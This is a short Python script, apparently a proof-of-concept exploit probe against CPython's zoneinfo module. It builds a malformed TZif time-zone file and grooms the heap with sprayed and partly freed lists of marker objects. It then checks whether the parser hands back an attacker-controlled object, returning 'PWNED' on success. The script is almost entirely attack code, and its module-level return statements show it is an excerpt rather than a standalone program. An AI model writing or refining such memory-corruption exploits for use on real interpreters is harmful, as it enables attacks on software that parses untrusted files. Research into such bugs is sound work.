import datetime
import io
import struct
import zoneinfo


class Marker:
    pass


head = b"TZif" + b"\0" + bytes(15) + struct.pack(">6l", 0, 0, 0, 1, 1, 4)
body = struct.pack(">i", 0) + bytes([1]) + struct.pack(">lbb", 3600, 0, 0) + b"ABC\0"
marker = Marker()
for _ in range(50):
    lists = [[marker, marker, marker, marker] for _ in range(2000)]
    for place in range(500, 2000, 50):
        lists[place] = None
    zone = zoneinfo.ZoneInfo.from_file(io.BytesIO(head + body), "x")
    if zone.tzname(datetime.datetime(2020, 1, 1)) is marker:
        return "PWNED"
return "no"
